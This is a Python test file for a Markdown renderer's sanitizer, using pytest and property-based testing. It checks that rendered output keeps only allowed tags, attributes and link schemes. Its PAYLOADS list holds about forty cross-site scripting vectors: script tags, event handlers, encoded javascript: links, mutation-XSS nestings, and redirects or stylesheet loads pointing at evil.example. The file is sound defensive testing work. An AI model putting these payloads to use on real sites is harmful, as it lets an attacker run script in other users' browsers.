"""Nothing that an editor types can bring script or foreign requests to a reader."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy.markdown import ALLOWED_CLASSES, ALLOWED_TAGS, Rendered, render, sanitize
from policy.presentation import present
from tests.html import elements

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x></form>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p onclick=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    '[x](/y "title\\" onmouseover=alert(1)")',
    '[x](/y"onmouseover="alert(1))',
    '## x {#"><script>alert(1)</script>}',
    '## x {#a"onclick="alert(1)}',
    "## <img src=x onerror=alert(1)>",
    "`<script>`\n\n    <script>alert(1)</script>\n",
    "```<script>\n</pre><script>alert(1)</script>\n```",
    "| <script> |\n| :-: |\n| <img src=x onerror=alert(1)> |",
    "[x]: javascript:alert(1)\n\n[x]",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
ATTRIBUTES = {"a": {"href"}, "ol": {"start"}}
ATTRIBUTES |= {f"h{level}": {"id"} for level in range(2, 7)}
ATTRIBUTES |= {tag: {"class"} for tag in ALLOWED_CLASSES}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*(?=:)", re.IGNORECASE)
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
ANCHOR = re.compile(r"[\w-]+")

# Arbitrary text seldom is Markdown: half of it is put together from telling pieces.
PIECES = [
    *("# ", "## ", "### ", "- ", "1. ", "> ", "    ", "```", "| a | b |", "|:-:|--|"),
    *("[a](", "](//x)", "<script>", "<b onclick=", "&lt;", "&#106;", "{#a}", "{#main}"),
    *(
        "1-800-345-1642",
        "*",
        "_",
        "`",
        "\\",
        "\n",
        "\n\n",
        "Purpose",
        "“”",
        "\x00",
        "é",
    ),
    *PAYLOADS,
]
TEXTS = st.text(max_size=200) | st.lists(st.sampled_from(PIECES), max_size=30).map(
    "".join
)


def assert_safe(html: str) -> None:
    for element in elements(html):
        assert element.tag in ALLOWED_TAGS
        assert set(element.attributes) <= ATTRIBUTES.get(element.tag, set())
        classes = set(element["class"].split())
        assert classes <= ALLOWED_CLASSES.get(element.tag, set())
        # Browsers drop line ends and tabs before they look for a scheme.
        scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", element["href"]))
        assert scheme is None or scheme[0].lower() in SAFE_SCHEMES


def assert_anchored(rendered: Rendered) -> None:
    """Every section below level 0 has an anchor of its own that can be linked to."""
    anchors = [section.anchor for section in rendered.sections if section.level]
    assert len(set(anchors)) == len(anchors)
    assert all(ANCHOR.fullmatch(anchor) and len(anchor) <= 200 for anchor in anchors)
    found = [element["id"] for element in elements(rendered.html) if element["id"]]
    assert found == anchors


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "- {}", "> {}", "a {} b", "## h\n\n{}\n\nc"])
def test_no_payload_passes(payload: str, around: str) -> None:
    source = around.format(payload)
    html = render(source, payload).html
    assert_safe(html)
    for element in elements(present(html)):
        assert element.tag in ALLOWED_TAGS | {"span"}
        assert not any(name.startswith("on") for name in element.attributes)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<")])
def test_a_row_altered_behind_our_back_brings_no_script_either(payload: str) -> None:
    assert_safe(sanitize(payload))
    for element in elements(present(payload)):
        assert element.tag in ALLOWED_TAGS | {"span"}


@settings(max_examples=300, deadline=None)
@given(source=TEXTS, title=st.text(max_size=20))
def test_any_text_becomes_safe_and_always_the_same(source: str, title: str) -> None:
    rendered = render(source, title)
    assert rendered == render(source, title)
    assert_safe(rendered.html)
    assert_anchored(rendered)
    assert present(rendered.html) == present(rendered.html)


@settings(max_examples=100, deadline=None)
@given(source=TEXTS)
def test_what_is_clean_stays_as_it_was_published(source: str) -> None:
    html = render(source).html
    assert sanitize(html) == html


def test_raw_html_is_shown_as_it_was_typed() -> None:
    html = render("<b>bold</b> & <script>x</script>").html
    assert elements(html, "p")[0].text == "<b>bold</b> & <script>x</script>"
